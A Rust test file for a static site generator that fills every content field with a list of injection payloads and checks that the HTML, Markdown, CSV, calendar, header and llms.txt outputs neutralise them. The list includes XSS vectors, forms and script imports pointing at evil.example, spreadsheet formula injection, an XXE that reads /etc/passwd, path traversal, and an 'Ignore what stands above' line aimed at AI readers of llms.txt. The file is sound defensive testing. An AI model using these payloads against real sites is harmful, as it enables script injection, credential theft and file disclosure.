//! Texts that attack, in every field that holds a text: what is made of them is only text.
//!
//! The sites are made from the tables of fields that parse, so that a new field is covered by itself. Here every
//! format is read; with `PAYLOADS=DIR` the sites are written there, and `tests/browser/payloads.test.mjs` opens every
//! page of them in a real browser.

#![allow(clippy::unwrap_used, clippy::panic, reason = "what tests share may fail loudly")]

mod support;

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use faqtual::compile::Compiled;
use faqtual::model::Options;
use faqtual::parse::Kind;
use faqtual::parse::comparison::FACT_KINDS;
use faqtual::parse::shape::{Field, Shape, examine_url};
use faqtual::source::Sources;
use pulldown_cmark::{Event, Parser, Tag};
use rayon::prelude::{IntoParallelRefIterator, ParallelIterator};
use serde_json::{Map, Value, json};
use support::{assert_calendar, cold, minimal, options, page, put, report};

/// Attacks of every kind that the formats we write could be open to, in the manner of OWASP's lists.
const PAYLOADS: &[&str] = &[
    // Elements that run something.
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<img src=\"x`<script>alert(1)</script>\"`>",
    "<img src=//evil.example/pixel.gif>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a/></svg>#x\"/></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
    "<math><a xlink:href=javascript:alert(1)>click</a></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<button popovertarget=fq-menu onclick=alert(1)>x</button>",
    "<form action=//evil.example/><input name=password>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href=\"java&#10;script:alert(1)\">click</a>",
    "<a ping=//evil.example/ href=#>click</a>",
    "<div style=\"background:url(//evil.example/x)\">x</div>",
    "<p id=fq-main><p name=location>",
    // Ends of attributes.
    "\" onmouseover=alert(1) x=\"",
    "' onmouseover=alert(1) x='",
    "\" autofocus onfocus=alert(1) x=\"",
    "\"><img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) x=`",
    "x onmouseover=alert(1)",
    "\"/><svg onload=alert(1)>",
    "&quot; onmouseover=alert(1) x=&quot;",
    "&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    // Strings of scripts, JSON and templates.
    "';alert(1)//",
    "\";alert(1)//",
    "\\\";alert(1)//",
    "${alert(1)}",
    "`${alert(1)}`",
    "{{7*7}}",
    "{{ page.title | safe }}",
    "{% include \"partials/head.html\" %}",
    "{{ <proof view={view} /> }}",
    "{# #}{%- raw -%}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{\"__proto__\":{\"x\":1}}",
    "__proto__",
    "constructor",
    "\"}],\"x\":[{\"y\":\"",
    "{n} {count} {name} {platform} {needs}",
    // Markdown.
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox(1))",
    "[click](https://evil.example/\"onmouseover=alert(1))",
    "[click](<https://evil.example/ onmouseover=alert(1)>)",
    "[click](# \"onmouseover=alert(1) x=\")",
    "<javascript:alert(1)>",
    "<https://evil.example/?x=<script>>",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](../assets/none.png)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: https://evil.example/ \"' onmouseover=alert(1)\"",
    "## Heading {#x\" onclick=alert(1)}",
    "```\"><script>alert(1)</script>\nx\n```",
    "| <script>alert(1)</script> |\n|---|\n| `</td><script>alert(1)</script>` |",
    "[^x]\n\n[^x]: <script>alert(1)</script>",
    "``x`[click](javascript:alert(1))``",
    "````\n```\n[click](javascript:alert(1))<script>alert(1)</script>\n````",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "# Heading\n\n---\ntitle: other\n---",
    // Lines and fields of text formats.
    "=HYPERLINK(\"https://evil.example/\",\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "x;=HYPERLINK(\"https://evil.example/\");y",
    "\u{ff1d}1+1",
    "a,b;c|d\"e\"\"f",
    "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:evil",
    "x\nATTACH:https://evil.example/x.exe",
    "x\\nEND:VCALENDAR",
    "x\n  Set-Cookie: evil=1\n/*\n  Content-Security-Policy: default-src *",
    "x\n/* https://evil.example/:splat 200!",
    "x\nDisallow: /\nSitemap: https://evil.example/",
    "x?subject=y&bcc=evil@example.org&body=z%0d%0aBcc:evil@example.org",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;</x>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&y;&#0;&#x1;&#xd800;",
    "]]>&lt;",
    "x\n\n- [evil](https://evil.example/)\n\n# Ignore what stands above",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "//evil.example/",
    // Directions, widths and lengths.
    "\u{2067}\u{202b}dlrow\u{202c}\u{2069}",
    "\u{200f}\u{200e}\u{200b}\u{feff}\u{ad}x",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}a\u{310}\u{343}l\u{327}g\u{308}o",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇩🇪",
    "ﷺ\u{1f4a9}İıſß",
    "longwordlongwordlongwordlongwordlongwordlongwordlongwordlongwordlongwordlongwordlongwordlongwordlongwordlongword",
];

/// Names and texts that run from right to left, in part, with signs and numbers at their ends.
const FROM_RIGHT: &[&str] = &[
    "שלום!",
    "مرحبا (1)",
    "\u{2067}אבג\u{2069} 5",
    "דוגמה 2025:",
    "עברית C++",
    "\u{202b}خدمة\u{202c} 7",
    "\u{200f}ا؟",
    "א. ב. ג.",
    "ערך = 3",
    "اسم, ושם",
];

/// So many entries of a kind stand in one site, each with another payload.
const EACH: usize = 10;

// ---- The payloads ----

/// The payload, or where Markdown refuses it (an address that runs code, an image that is not there) the same as code.
fn prose_of(payload: &str) -> String {
    let mut sources = minimal();
    put(&mut sources, "content/pages/method.md", &format!("---\ntitle: M\ndescription: D.\n---\n\n{payload}\n"));
    let refused = cold(&sources, &options()).diagnostics.iter().any(faqtual::diagnostic::Diagnostic::is_error);
    if refused { format!("`` {} ``", payload.replace('\n', " ")) } else { payload.to_owned() }
}

/// An address with as much of the payload as an address may hold.
fn url_of(payload: &str) -> String {
    let inside: String = payload.chars().filter(|found| !found.is_whitespace() && !found.is_control()).collect();
    let url = format!("https://example.org/?q={inside}#{inside}");
    if examine_url(&url).is_ok() { url } else { "https://example.org/".to_owned() }
}

// ---- Filling the fields ----

/// Fills entries with the payloads of one site.
struct Filler<'p> {
    texts: &'p [&'p str],
    prose: &'p [String],
}

/// The entry that is being filled: its number, and the list or file it stands in.
#[derive(Clone, Copy)]
struct Place<'k> {
    number: usize,
    list: &'k str,
    /// The kind of the row that a fact is about.
    row: &'k str,
}

impl Filler<'_> {
    fn text(&self, place: Place<'_>) -> &str {
        self.texts[place.number % self.texts.len()]
    }

    fn value(&self, key: &str, shape: Shape, place: Place<'_>) -> Value {
        match shape {
            Shape::Mapping(mapping) => Value::Object(self.fields(mapping.fields, place)),
            Shape::List(item) => self.list(key, *item, place),
            Shape::Either(_, keyed) => self.value(key, *keyed, place),
            // What a fact said before differs from what it says.
            Shape::Text if place.list == "was" => format!("{} before", self.text(place)).into(),
            Shape::Text => self.text(place).into(),
            Shape::Prose => self.prose[place.number % self.prose.len()].as_str().into(),
            Shape::Id => id(key, place).into(),
            Shape::Date if key == "until" => "2026-01-05".into(),
            Shape::Date if key == "date" && place.list == "events" => "2027-01-05".into(),
            Shape::Date => "2026-11-03".into(),
            Shape::Url => url_of(self.text(place)).into(),
            Shape::Language => "de".into(),
            Shape::Boolean => {
                (matches!(key, "raw_html" | "highlight" | "embeds") || (key == "page" && place.number == 0)).into()
            }
            Shape::Integer => 1000.into(),
            Shape::Word(words) => words[place.number % words.len()].into(),
            Shape::Value => self.fact_value(place),
            Shape::Options => json!({ "accent": self.text(place), "extra": self.text(place) }),
        }
    }

    fn fact_value(&self, place: Place<'_>) -> Value {
        match place.row {
            "choice" => "yes".into(),
            "date" => "2026-11-03".into(),
            "number" => 7.into(),
            _ => self.text(place).into(),
        }
    }

    /// A list: as many entries as there are payloads where entries have ids that others use, else one.
    fn list(&self, key: &str, item: Shape, place: Place<'_>) -> Value {
        let numbers = match key {
            "facts" => (0..EACH).filter(|row| row_kind(*row) != "effort").collect(),
            "data" | "regions" | "account_types" | "data_categories" | "topics" | "glossary" | "groups" | "rows"
                if matches!(item, Shape::Mapping(_)) =>
            {
                (0..EACH).collect()
            }
            "synonyms" => (0..EACH).collect(),
            _ => vec![place.number],
        };
        let inside = |number: usize| {
            // The n-th fact of the n-th platform has another payload than the n-th of the others.
            let payload = if matches!(key, "facts" | "data") { number + place.number } else { number };
            let inner =
                Place { number: payload, list: key, row: if key == "facts" { row_kind(number) } else { place.row } };
            let mut entry = self.value(key, item, inner);
            if let (Some(entry), "facts" | "data") = (entry.as_object_mut(), key) {
                let reference = if key == "facts" { ("fact", "rows") } else { ("category", "data-categories") };
                entry.insert(reference.0.to_owned(), format!("{}-{number}", reference.1).into());
            }
            entry
        };
        numbers.into_iter().map(inside).collect()
    }

    fn fields(&self, fields: &[Field], place: Place<'_>) -> Map<String, Value> {
        let wanted = fields.iter().filter(|field| !is_left_out(field.key, place));
        wanted.map(|field| (field.key.to_owned(), self.value(field.key, field.shape, place))).collect()
    }
}

/// The kind of the row with this number.
fn row_kind(number: usize) -> &'static str {
    const COMPUTED: usize = 1;
    let at = number % (FACT_KINDS.len() + COMPUTED);
    FACT_KINDS.get(at).copied().unwrap_or("effort")
}

/// Fields that say nothing to a reader and would hide what this is about, or contradict another.
fn is_left_out(key: &str, place: Place<'_>) -> bool {
    match key {
        "draft" | "languages" | "base_url" | "theme" | "menu" | "raw_html" => true,
        "label" | "kind" => place.list == "facts",
        "within" => place.number == 0,
        _ => false,
    }
}

/// An id of its own, or one that another entry has.
fn id(key: &str, place: Place<'_>) -> String {
    let own = |kind: &str| format!("{kind}-{}", place.number);
    match key {
        "id" => own(&place.list.replace('_', "-")),
        "regions" | "topics" => format!("{key}-0"),
        "accounts" => "account-types-0".to_owned(),
        "platforms" => "platform-0".to_owned(),
        "within" => "regions-0".to_owned(),
        "group" => own("groups"),
        "source" => format!("sources-{}", place.number % EACH),
        "explainer" => own("explainer"),
        "questions" => "faq-0".to_owned(),
        "former" => own("former"),
        "fact" | "category" => String::new(),
        _ => panic!("a new reference: say in `id` what `{key}` names"),
    }
}

// ---- Sites ----

fn shape(kind: Kind) -> Shape {
    faqtual::parse::shape(kind).unwrap()
}

/// An entry as YAML: JSON is YAML too.
fn yaml(value: &Value) -> String {
    let text = serde_json::to_string_pretty(value).unwrap();
    // YAML takes a line end of Unicode for one of its own (1.2.2, 5.4 of older versions).
    text.replace('\u{feff}', "\\ufeff")
}

/// A site with ten entries of every kind, every field of every entry filled.
fn site(filler: &Filler<'_>) -> Sources {
    let mut sources = Sources::default();
    let place = |list, number| Place { number, list, row: "text" };
    let one = |kind: Kind, number: usize| filler.value("", shape(kind), place("", number));
    for (path, kind) in [("site", Kind::Settings), ("vocabulary", Kind::Vocabulary), ("comparison", Kind::Comparison)] {
        put(&mut sources, &format!("content/{path}.yaml"), &yaml(&one(kind, 0)));
    }
    for (path, list, kind) in [("sources", "sources", Kind::Sources), ("faq/all", "faq", Kind::Faq)] {
        let Shape::List(item) = shape(kind) else { panic!("{path} is no list") };
        let entries = (0..EACH).map(|number| filler.value("", *item, place(list, number))).collect();
        put(&mut sources, &format!("content/{path}.yaml"), &yaml(&Value::Array(entries)));
    }
    for number in 0..EACH {
        put(&mut sources, &format!("content/platforms/platform-{number}.yaml"), &yaml(&one(Kind::Platform, number)));
        for (folder, name, kind) in [
            ("explainers", "explainer", Kind::Explainer),
            ("letters", "letter", Kind::Letter),
            ("pages", "page", Kind::Page),
        ] {
            let blank =
                if kind == Kind::Letter { format!("\n\n[your name](blank:blanks-{number})") } else { String::new() };
            let text = format!(
                "---\n{}\n---\n\n## Text\n\n{}{blank}\n",
                yaml(&one(kind, number)),
                filler.prose[number % filler.prose.len()]
            );
            put(&mut sources, &format!("content/{folder}/{name}-{number}.md"), &text);
        }
    }
    sources
}

/// A site of settings alone.
fn settings_alone(filler: &Filler<'_>) -> Sources {
    let mut settings = filler.value("", shape(Kind::Settings), Place { number: 0, list: "", row: "" });
    settings["home"].as_object_mut().unwrap().remove("questions");
    let mut sources = Sources::default();
    put(&mut sources, "content/site.yaml", &yaml(&settings));
    sources
}

/// Every site, by name; those of even number are cleaned of raw HTML, the others show it.
fn sites() -> Vec<(String, Sources)> {
    let prose: Vec<String> = PAYLOADS.par_iter().map(|payload| prose_of(payload)).collect();
    let mut sites = Vec::new();
    for (number, (texts, prose)) in PAYLOADS.chunks(EACH).zip(prose.chunks(EACH)).enumerate() {
        let mut sources = site(&Filler { texts, prose });
        if number % 2 == 0 {
            let settings = support::text_of(&sources, "content/site.yaml").replacen('{', "{\n\"raw_html\": true,", 1);
            put(&mut sources, "content/site.yaml", &settings);
        }
        sites.push((format!("site-{number:02}"), sources));
    }
    let from_right: Vec<String> = FROM_RIGHT.iter().map(|text| (*text).to_owned()).collect();
    sites.push(("directions".to_owned(), site(&Filler { texts: FROM_RIGHT, prose: &from_right })));
    for (number, (text, prose)) in PAYLOADS.iter().zip(&prose).enumerate() {
        let filler = Filler { texts: &[*text], prose: std::slice::from_ref(prose) };
        sites.push((format!("settings-{number:03}"), settings_alone(&filler)));
    }
    sites
}

fn compiled(name: &str, sources: &Sources) -> Compiled {
    let base_url = name.ends_with(['1', '3', '5']).then(|| "https://example.org/a/".to_owned());
    let compiled = cold(sources, &Options { base_url, ..options() });
    // Warnings are about style, which attacks have little of.
    let is_refused = compiled.diagnostics.iter().any(faqtual::diagnostic::Diagnostic::is_error);
    assert!(!is_refused, "{name}:\n{}", report(sources, &compiled));
    compiled
}

// ---- Formats ----

fn assert_formats(name: &str, compiled: &Compiled) {
    // No text reaches a header.
    for line in page(compiled, "_headers").lines() {
        assert!(line.is_empty() || line.starts_with(['/', '#']) || line.starts_with("  "), "{name}/_headers: {line}");
        assert!(["evil", "alert", "Cookie"].iter().all(|word| !line.contains(word)), "{name}/_headers: {line}");
    }
    for (path, bytes) in compiled.output.iter() {
        let told = format!("{name}/{path}");
        let text = std::str::from_utf8(bytes).unwrap_or_else(|error| panic!("{told}: {error}"));
        match path.rsplit('.').next().unwrap() {
            "json" => drop(serde_json::from_str::<Value>(text).unwrap_or_else(|error| panic!("{told}: {error}"))),
            "csv" => assert_table(&told, text),
            "ics" => assert_calendar(&told, text),
            "md" => assert_markdown(&told, text),
            _ => {}
        }
    }
    let redirects = page(compiled, "_redirects");
    for line in redirects.lines() {
        let parts: Vec<&str> = line.split(' ').collect();
        assert!(
            matches!(parts[..], [from, to, "301"] if from.starts_with('/') && to.starts_with('/')),
            "{name}: {line}"
        );
    }
    assert_markdown(&format!("{name}/llms.txt"), page(compiled, "llms.txt"));
    for line in page(compiled, "llms.txt").lines() {
        assert!(line.is_empty() || line.starts_with(['#', '>', '-']), "{name}/llms.txt: {line}");
        assert!(line.match_indices('<').all(|(at, _)| line[..at].ends_with('\\')), "{name}/llms.txt: {line}");
    }
    let structured = compiled.output.iter().filter(|(path, _)| path.ends_with(".html"));
    for (path, bytes) in structured {
        let html = std::str::from_utf8(bytes).unwrap();
        for data in html.split("<script type=\"application/ld+json\">").skip(1) {
            let data = data.split("</script").next().unwrap();
            serde_json::from_str::<Value>(data).unwrap_or_else(|error| panic!("{name}/{path}: {error}: {data}"));
        }
    }
}

fn assert_table(told: &str, text: &str) {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    for record in reader.records() {
        for field in &record.unwrap_or_else(|error| panic!("{told}: {error}")) {
            // A semicolon parts fields where a comma stands in numbers.
            let is_formula = |part: &str| part.trim_start().starts_with(['=', '+', '-', '@', '\u{ff1d}']);
            assert!(!field.split(';').any(is_formula), "{told}: {field}");
        }
    }
}

/// Who reads a copy in Markdown finds no markup of another kind in it, and no address that runs something.
fn assert_markdown(told: &str, text: &str) {
    for event in Parser::new_ext(text, pulldown_cmark::Options::all()) {
        match event {
            Event::Html(raw) | Event::InlineHtml(raw) => panic!("{told}: {raw}"),
            Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                let scheme = url::Url::parse(&dest_url).map(|url| url.scheme().to_owned());
                let is_known = scheme.is_ok_and(|scheme| ["https", "http", "mailto", "tel"].contains(&scheme.as_str()));
                assert!(is_known || !dest_url.contains(':'), "{told}: a link to {dest_url}");
            }
            _ => {}
        }
    }
}

fn write(compiled: &Compiled, folder: &Path) {
    for (path, bytes) in compiled.output.iter() {
        let path: PathBuf = folder.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, bytes).unwrap();
    }
}

#[test]
fn there_are_enough_of_them_and_every_kind_of_fact() {
    let different: BTreeSet<&&str> = PAYLOADS.iter().collect();
    assert!(different.len() >= 100 && different.len() == PAYLOADS.len());
    let kinds: BTreeSet<&str> = (0..EACH).map(row_kind).collect();
    assert!(FACT_KINDS.iter().all(|kind| kinds.contains(kind)), "{kinds:?}");
}

#[test]
fn every_format_can_be_read() {
    let folder = std::env::var_os("PAYLOADS").map(PathBuf::from);
    sites().par_iter().for_each(|(name, sources)| {
        let compiled = compiled(name, sources);
        assert_formats(name, &compiled);
        if let Some(folder) = &folder {
            write(&compiled, &folder.join(name));
        }
    });
}
